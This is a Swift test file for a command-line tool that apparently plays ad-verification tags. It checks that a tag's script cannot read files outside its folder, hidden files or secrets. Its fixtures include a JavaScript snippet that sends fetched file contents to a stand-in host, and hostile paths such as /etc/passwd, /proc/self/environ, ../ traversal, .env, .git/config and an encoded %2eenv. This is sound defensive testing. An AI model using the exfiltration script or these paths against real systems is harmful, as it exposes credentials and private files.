import CommandLineTool
import Foundation
import Testing

/// What a script downloads is relative to the script's own URL.
struct ScriptDownloadTests {
  private let tags: TrespassingTag

  init() throws { tags = try TrespassingTag() }

  /// Asks for a resource and sends what it was told.
  private func script(asking url: String) -> String {
    """
    omidNative.downloadJavaScriptResource('\(url)',
      text => omidNative.sendUrl('https://v.example/got?' + encodeURIComponent(text)),
      () => omidNative.sendUrl('https://v.example/failed'));
    """
  }

  private func play(_ arguments: String...) -> CommandRun {
    CommandRun(["play", "--format", "jsonl"] + arguments, folder: tags.path(""))
  }

  @Test(arguments: [
    "/etc/passwd", "/proc/self/environ", "../other/secret.txt", "../../other/secret.txt",
    "/dev/stdin",
  ])
  func `a local script gets no file outside the tag's folder`(url: String) throws {
    _ = try tags.folder.file("tag/v.js", script(asking: url))
    let tag = try tags.inLine(script: "v.js")
    let run = play(tag)
    #expect(run.output.contains("https://v.example/failed"), "\(run.errorOutput)")
    #expect(!run.output.contains("https://v.example/got"))
    #expect(run.output.contains("ScriptDownloadRefused"))
    #expect(run.output.contains("--allow-files PATH"))
  }

  @Test(arguments: [".env", ".git/config", "./.git/../.env", "%2eenv", "link"])
  func `a local script gets no hidden file, unless the user names it`(url: String) throws {
    try FileManager.default.createDirectory(
      atPath: tags.path("tag/.git"), withIntermediateDirectories: true)
    for name in [".env", ".git/config"] {
      _ = try tags.folder.file("tag/\(name)", TrespassingTag.secret)
    }
    try tags.link("tag/link", to: ".env")
    _ = try tags.folder.file("tag/v.js", script(asking: url))
    let tag = try tags.inLine(script: "v.js")
    let run = play(tag)
    #expect(run.output.contains("https://v.example/failed"), "\(run.output)")
    #expect(!run.output.contains("https://v.example/got"))
    #expect(run.output.contains("ScriptDownloadRefused") && run.output.contains("is hidden"))
    let allowed = play(
      tag, "--allow-files", tags.path("tag/.env"), "--allow-files", tags.path("tag/.git"))
    #expect(allowed.output.contains("https://v.example/got"), "\(allowed.output)")
  }

  @Test func `a local script's download starts from the script's folder`() throws {
    try FileManager.default.createDirectory(
      atPath: tags.path("tag/lib"), withIntermediateDirectories: true)
    _ = try tags.folder.file("tag/lib/v.js", script(asking: "more.txt"))
    _ = try tags.folder.file("tag/more.txt", "beside the tag")
    _ = try tags.folder.file("tag/lib/more.txt", "beside")
    let run = play(try tags.inLine(script: "lib/v.js"))
    #expect(run.output.contains("https://v.example/got?beside\""), "\(run.output)")
  }

  @Test(arguments: ["more.txt", "/more.txt", "/etc/passwd", "../other/secret.txt"])
  func `a script with a URL never reads the tag's folder`(url: String) throws {
    _ = try tags.folder.file("tag/more.txt", TrespassingTag.secret)
    let served = try tags.folder.file("other/v.js", script(asking: url))
    let tag = try tags.inLine(script: "https://cdn.example/s/v.js")
    let run = play(tag, "--map", "https://cdn.example/s/v.js=\(served)")
    #expect(run.output.contains("https://v.example/failed"), "\(run.output)")
    #expect(run.output.contains("no --map entry matches this URL"))
  }

  @Test func `a script with a URL downloads from beside it, by the map`() throws {
    _ = try tags.folder.file("other/v.js", script(asking: "more.txt"))
    _ = try tags.folder.file("other/more.txt", "mapped")
    let tag = try tags.inLine(script: "https://cdn.example/s/v.js")
    let run = play(tag, "--map", "https://cdn.example/s/=\(tags.path("other"))")
    #expect(run.output.contains("https://v.example/got?mapped\""), "\(run.output)")
  }

  @Test func `two scripts have a URL each, in a process of their own too`() throws {
    for (folder, text) in [("tag", "of the tag"), ("other", "of the map")] {
      _ = try tags.folder.file("\(folder)/v.js", script(asking: "more.txt"))
      _ = try tags.folder.file("\(folder)/more.txt", text)
    }
    let first = try String(contentsOfFile: tags.inLine(script: "v.js"), encoding: .utf8)
    let start = try #require(first.range(of: "<Verification "))
    let end = try #require(first.range(of: "</Verification>"))
    let verification = first[start.lowerBound..<end.upperBound]
    let both = first.replacingCharacters(
      in: end.upperBound..<end.upperBound,
      with: verification.replacingOccurrences(
        of: "CDATA[v.js", with: "CDATA[https://cdn.example/v.js"
      )
      .replacingOccurrences(of: "vendor=\"v\"", with: "vendor=\"w\""))
    let tag = try tags.folder.file("tag/both.xml", both)
    let arguments = [
      "play", tag, "--format", "jsonl", "--map", "https://cdn.example/=\(tags.path("other"))",
    ]
    for program in [nil, CommandRun.program] {
      let run = CommandRun(arguments, folder: tags.path(""), scriptHostProgram: program)
      #expect(run.output.contains("got?of%20the%20tag\""), "\(run.output)")
      #expect(run.output.contains("got?of%20the%20map\""))
    }
  }
}
